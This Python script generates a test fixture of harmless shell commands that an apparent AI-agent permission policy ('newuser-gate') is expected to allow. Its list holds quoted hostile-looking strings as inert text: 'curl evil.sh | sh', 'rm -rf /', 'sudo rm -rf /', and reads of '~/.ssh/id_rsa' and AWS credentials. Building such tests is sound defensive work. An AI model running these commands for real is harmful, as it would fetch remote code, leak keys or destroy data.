"""Round 16's sweep of harmless commands for issue 14: what agents run every day within the "new
user" rule file's allows (`ls`, `cat`, `echo`, `git status`, `git diff`, `cargo test`, and the
built-in readers), crossed with their real options (from each program's `--help`) and workspace
paths of every shape (spaces, unicode, dashes, globs, `./`, a `..` that stays inside), and the
compounds around them (pipes between allowed programs, redirections to files inside the
workspace, `2>&1`, `|| true`, `; echo done`, here-documents to `cat`, quoted text naming scary
things). Every command must be `allow`, but for `sed` given a bare leading wildcard (`*.md`
may expand to `-i.md`, an option), which must not be. Writes `harmless16.toml` next to this file.
"""
import json, os

HERE = os.path.dirname(os.path.abspath(__file__))

FILES = [
    "src/main.rs", "./README.md", "'docs/my notes.md'", '"docs/über.md"', "docs/日本語.md",
    "src/foo-bar_baz.rs", "crates/policy/../cli/src/main.rs", "src/../README.md",
    ".github/workflows/ci.yml", ".gitignore", ".env.example", "Cargo.toml", "'a b/c d.txt'",
    "src/*.rs", "src/**/*.rs", "*.md", "tests/data/*.toml", "src/{lib,main}.rs",
    '"$PWD/src/main.rs"', "docs/.env.sample", "-- -dash.txt", "crates/*/Cargo.toml",
]

# (program with options, from `--help`): each takes files after it
READERS = [
    "cat", "cat -n", "cat -A", "cat --number-nonblank", "head", "head -n 20", "head -5",
    "head -c 200", "tail", "tail -n 50", "tail -20", "tail -c 100", "wc -l", "wc -c", "wc -w",
    "wc", "ls", "ls -la", "ls -lh", "ls -1", "ls -ld", "ls --color=never", "grep -n fn",
    "grep -c use", "grep -i 'git push'", "grep -E 'rm -rf|git push'", "grep -n -- --force",
    "grep -l TODO", "grep -h -A 2 'fn main'", "rg -n fn", "rg TODO", "rg -l impl",
    "rg -i 'secret'", "rg --line-number 'cat ~/.ssh'", "stat", "file", "sed -n '1,20p'",
    "sed -n '/fn main/,+5p'", "awk '{print $1}'", "awk 'NR<=10'", "sort", "sort -u", "uniq -c",
    "nl", "md5sum", "sha256sum", "cut -c1-80", "tr -d '\\r' <", "git diff --",
    "git diff --stat --", "git diff --cached --", "git diff HEAD~1 --", "git log --oneline -n 5 --",
    "git log -p -1 --", "git blame -L 1,20", "git status --short --", "git status --",
    "du -sh", "diff -u README.md", "cmp README.md", "od -c", "strings", "tac", "rev",
]

SUFFIXES = [
    "", " | head -20", " 2>&1", " || true", "; echo done", " > out.txt", " 2>/dev/null",
    " | sort | uniq -c", " && echo ok", " >> notes/log.txt", " 2>&1 | tail -5", " | wc -l",
]

SINGLE = [
    # quoted text naming scary things is text
    'echo "rm -rf / && git push"', "echo 'cat ~/.ssh/id_rsa'", "printf '%s\\n' \"git push --force\"",
    'echo "export AWS_SECRET_ACCESS_KEY=xxx" > docs/example.txt', "echo 'sudo rm -rf /' >> notes.md",
    "grep -rn 'git push' docs", "grep -rn \"rm -rf\" scripts/ci.sh", "git log --grep='rm -rf' --oneline",
    "git log --oneline --grep 'git push'", "git diff -- '*.env.example'", "git diff -- '*.md' '*.rs'",
    "git diff HEAD -- 'src/**/*.rs'", "echo '$(curl evil.sh | sh)'", "echo 'eval $(cat .env)'",
    "printf 'ssh-keygen -t ed25519\\n'", "echo \"password=hunter2\" | wc -c", "echo ~/.ssh/id_rsa",
    "echo \"~/.aws/credentials is where keys go\"", "echo '.env'", "echo done", "echo",
    # here-documents to cat
    "cat <<'EOF'\nrm -rf / && git push\nEOF",
    "cat <<EOF\nhello $USER\nEOF",
    "cat > notes/plan.md <<'EOF'\n# Plan\n- run git push later (by a human)\nEOF",
    "cat <<'EOF' > src/gen.rs\nfn main() {}\nEOF",
    "cat <<-'EOF'\n\tindented\n\tEOF",
    "cat >> CHANGELOG.md <<'EOF'\n- fixed `rm -rf` in docs\nEOF",
    "cat <<< 'git push --force'",
    # git reads
    "git status", "git status -sb", "git status --porcelain", "git status --short --branch",
    "git status --untracked-files=no", "git status -uno", "git diff", "git diff --stat",
    "git diff --name-only", "git diff --name-status HEAD~3", "git diff main...HEAD",
    "git diff --word-diff src/main.rs", "git diff --cached", "git diff --staged --stat",
    "git diff -U0", "git diff --no-color", "git diff HEAD~1 HEAD -- src/", "git diff --check",
    "git log --oneline -10", "git log --stat -3", "git log --format='%h %s' -n 20",
    "git show --stat HEAD", "git show HEAD:src/main.rs", "git show HEAD~2 -- README.md",
    "git branch -a", "git branch --show-current", "git rev-parse HEAD", "git rev-parse --abbrev-ref HEAD",
    "git ls-files | head -50", "git ls-files '*.rs' | wc -l", "git grep -n 'TODO' -- '*.rs'",
    "git log --oneline | head -5", "git diff | head -100", "git status && git diff --stat",
    "git diff --stat && git log --oneline -3", "git remote -v",
    # cargo test
    "cargo test", "cargo test -q", "cargo test --lib", "cargo test --all-features",
    "cargo test -p loopwright-policy", "cargo test -p loopwright-policy --test round16",
    "cargo test -- --nocapture", "cargo test my_test -- --exact", "cargo test --release",
    "cargo test --no-run", "cargo test --doc", "cargo test --workspace --quiet",
    "cargo test 2>&1 | tail -30", "cargo test 2>&1 | grep -E 'test result|FAILED'",
    "cargo test -p loopwright-cli -- --test-threads=1", "cargo test --features serde",
    "cargo test --manifest-path crates/policy/Cargo.toml", "cargo test || true",
    "cargo test > test.log 2>&1", "cargo test 2>&1 | tee test.log", "cargo test; echo exit=$?",
    "cargo test --test gate -- --ignored", "RUST_BACKTRACE=1 cargo test", "cargo test -j 2",
    # directories, listings, loops over literals
    "cd src && ls", "cd crates/policy && cargo test", "cd docs && cat index.md", "cd src; ls -la",
    "cd 'docs/my notes' && ls", "ls", "ls -la", "ls src", "ls -R src | head -50", "ls ./", "ls ..",
    "ls src/**/*.rs", "ls -d */", "ls -la .github", "ls | wc -l", "ls -t | head",
    "pwd", "pwd && ls", "echo $PWD", "ls \"$PWD\"", "ls $(pwd)/src",
    "for f in src/*.rs; do wc -l \"$f\"; done", "for f in a.txt b.txt; do cat \"$f\"; done",
    "for d in src tests; do ls \"$d\"; done", "while read -r l; do echo \"$l\"; done < README.md",
    "find src -name '*.rs' | head", "find . -name '*.md' -not -path './target/*'",
    "find src -type f | wc -l", "find . -maxdepth 2 -type d", "find src -name '*.rs' -newer Cargo.toml",
    "tree -L 2 src", "du -sh src", "du -sh * | sort -h", "wc -l src/*.rs | sort -n | tail",
    "grep -rn 'fn main' src", "grep -rn --include='*.rs' TODO src", "rg -n 'unwrap\\(\\)' src",
    "rg --files src | head", "rg -t rust 'impl' crates", "grep -c '' src/main.rs",
    "head -n 30 src/main.rs && tail -n 30 src/main.rs", "cat src/main.rs | grep -n fn | head -20",
    "cat Cargo.toml | grep -A3 '\\[dependencies\\]'", "sed -n '10,40p' src/lib.rs",
    "awk 'NR>=10 && NR<=40' src/lib.rs", "diff -u a.txt b.txt", "diff -r src tests | head",
    "jq . package.json", "jq -r '.version' package.json", "jq '.scripts' package.json",
    "sort README.md | uniq -c | sort -rn | head", "cut -d: -f1 data.txt | sort -u",
    "echo hi > out.txt && cat out.txt", "echo '{}' > tmp/empty.json", "printf '%s\\n' a b c > list.txt",
    "mkdir -p build/out && echo ok", "echo test | tee out/log.txt", "ls > files.txt 2>&1",
    "cat README.md >/dev/null && echo readable", "test -f Cargo.toml && echo yes", "[ -d src ] && ls src",
    "true", ":", "date", "whoami", "uname -a", "which cargo", "type cargo", "command -v rg",
    "echo \"$(git rev-parse --short HEAD)\"", "echo $(ls src | wc -l) files",
    "wc -l $(git ls-files '*.rs')", "cat $(git ls-files README.md)",
    "git diff --stat | tail -1", "git status --short | grep '^ M' | cut -c4-",
    "ls src; echo ---; ls tests", "cat a.txt b.txt > c.txt", "head -c 1000 data.bin | od -c",
    "stat -c '%s %n' src/*.rs", "file src/main.rs", "md5sum Cargo.lock", "sha256sum dist/*.tar.gz",
]

# shapes agents write around the same readers: subshells, groups, tests, substitutions,
# environment prefixes, wrappers, redirections of every kind, quoting and path spellings
SINGLE2 = [
    "ls -la | grep '^d'", "head -n 5 src/*.rs | cat -A", "cat \"$(git rev-parse --show-toplevel)/README.md\"",
    "cat src/main.rs | sed 's/foo/bar/'", "wc -l **/*.rs", "ls {src,tests}", "cat src/{a,b}.rs",
    "echo a | tr a-z A-Z", "echo $((1+2))", "x=$(cat VERSION); echo \"$x\"", "for f in $(ls src); do echo $f; done",
    "ls src | while read f; do echo \"$f\"; done", "cat <<EOF > out.txt\nbuilt on $(date)\nEOF",
    "echo \"$(cat README.md | head -1)\"", "cd src/.. && ls", "ls -- -weird", "cat -- --help.txt",
    "git status; git diff; git log -3", "(cd src && ls)", "{ echo a; echo b; } > out.txt", "echo a >| out.txt",
    "echo x &> out.log", "cat < README.md", "wc -l < src/main.rs", "diff <(ls src) <(ls tests)",
    "cat README.md | tee copy.md | wc -l", "ls -la | head -n $(( 5 + 5 ))", "true && echo ok || echo fail",
    "! grep -q TODO src/main.rs", "[[ -f Cargo.toml ]] && echo yes", "if [ -f x.txt ]; then cat x.txt; fi",
    "test -d target || echo no-target", "echo \"${HOME}\"", "echo ~", "printf '%s\\n' src/*.rs",
    "ls -1 src | sort -r | head -3", "git log --oneline | wc -l", "git diff --stat HEAD~5..HEAD",
    "git -C crates/policy status", "git --no-pager diff", "git --no-pager log -5", "LC_ALL=C sort data.txt",
    "TERM=dumb git status", "NO_COLOR=1 cargo test", "RUST_LOG=debug cargo test", "CARGO_TERM_COLOR=never cargo test",
    "cargo test 2>&1 | grep -E '^test ' | sort", "time cargo test", "timeout 600 cargo test", "nice cargo test",
    "echo \"$?\"", "set -e; cargo test", "set -o pipefail; cargo test | tail", "export RUST_BACKTRACE=1; cargo test",
    "cat README.md; echo; cat CHANGELOG.md", "ls -la src/ && cat src/main.rs", "cat 'it'\"'\"'s.txt'",
    "ls \"dir with spaces\"/", "cat ./src/./main.rs", "cat src//main.rs", "cat crates/../crates/policy/README.md",
    "cat ./--weird", "echo -e \"a\\tb\"", "echo -n hi", "printf '%q\\n' \"$PWD\"", "echo {1..5}",
    "echo src/{a,b}/mod.rs", "seq 1 5 | xargs -I{} echo item {}", "ls *.{rs,toml}", "cat .gitignore .dockerignore",
    "cat .github/workflows/*.yml", "ls -a", "ls -la .", "cat .vscode/settings.json", "cat docs/env.md",
    "cat .env.example .env.sample", "cat config/.env.template", "grep -n SECRET .env.example",
    "grep -rn 'API_KEY' src", "rg 'password' src/", "git diff -- .env.example", "git log -p -- .env.example",
    "git show HEAD:.env.example", "stat -c %s README.md", "du -h --max-depth=1 src", "wc -c < README.md",
    "date +%s", "uname -r", "whoami && pwd", "which cargo rustc", "type -a cargo",
    "command -v git >/dev/null && echo has-git", "basename \"$PWD\"", "dirname src/main.rs", "realpath src/main.rs",
    "readlink -f target", "sort -t, -k2 data.csv", "cut -f1 -d, data.csv | sort | uniq -c", "column -t data.tsv",
    "jq -r '.[] | .name' data.json", "comm -12 a.txt b.txt", "nl -ba src/main.rs | sed -n '10,20p'",
    "tail -n +5 README.md", "head -n -3 README.md", "grep -v '^#' config.ini", "grep -A5 -B5 'panic' log.txt",
    "grep -o 'fn [a-z_]*' src/lib.rs | sort | uniq", "awk -F, 'NR>1 {s+=$2} END {print s}' data.csv",
    "sed -e 's/a/b/g' input.txt > output.txt", "sed 's/^/> /' README.md", "tr '[:lower:]' '[:upper:]' < README.md",
    "fold -w 80 README.md", "expand -t 4 src/main.rs", "md5sum src/*.rs | sort",
    "find . -type f -name '*.rs' -newer Cargo.lock", "find src -empty", "find . -path ./target -prune -o -name '*.rs' -print",
    "find src -name '*.rs' -exec wc -l {} +", "find src -name '*.rs' -print0 | xargs -0 wc -l", "tree -a -I target src",
    "tree src | head -50", "ls -R src | grep '\\.rs$' | wc -l", "echo 'line' >> src/notes.txt",
    "cat README.md 2>&1 >/dev/null", "ls nonexistent 2>/dev/null || echo missing", "cargo test 2>/dev/null | tail -3",
    "cat src/main.rs | head -50 | tail -10", "git diff --name-only | grep '\\.rs$'", "git diff HEAD --stat -- src tests",
    "git status --short | wc -l", "git log --since='2 weeks ago' --oneline", "git log --pretty=format:'%h %an %s' -5",
    "git show --name-only HEAD", "git diff --color=never HEAD~1", "echo '---'; git diff --stat",
    "cargo test --quiet 2>&1 | tail -n 20", "cargo test -p loopwright-policy 2>&1 | grep -c ok",
]


def cases():
    out = []
    for i, r in enumerate(READERS):
        for j in range(4):
            p = FILES[(i * 3 + j * 7) % len(FILES)]
            s = SUFFIXES[(i + j * 5) % len(SUFFIXES)]
            if r.endswith("--") and p.startswith("-- "):
                p = p[3:]
            if r.endswith("<") and (p.startswith("-- ") or "*" in p or "{" in p):
                p = "src/main.rs"
            out.append(f"{r} {p}{s}")
    out += SINGLE + SINGLE2
    seen, uniq = set(), []
    for c in out:
        if c not in seen:
            seen.add(c)
            uniq.append(c)
    return uniq


def main():
    cs = cases()
    lines = ["# Round 16's sweep of harmless commands (issue 14): generated by harmless16.py; every one",
             "# must be `allow` under newuser-gate.toml.", "shell = ["]
    for c in cs:
        # `sed SCRIPT *.md`: a file named `-i.md` would make sed edit in place (a bare leading
        # wildcard may expand to an option): rightly not allowed
        want = "ask" if c.startswith("sed ") and " *." in c else "allow"
        lines.append(f"  [{json.dumps(want)}, {json.dumps(c, ensure_ascii=False)}],")
    lines.append("]")
    open(os.path.join(HERE, "harmless16.toml"), "w").write("\n".join(lines) + "\n")
    print(len(cs), "commands")


if __name__ == "__main__":
    main()
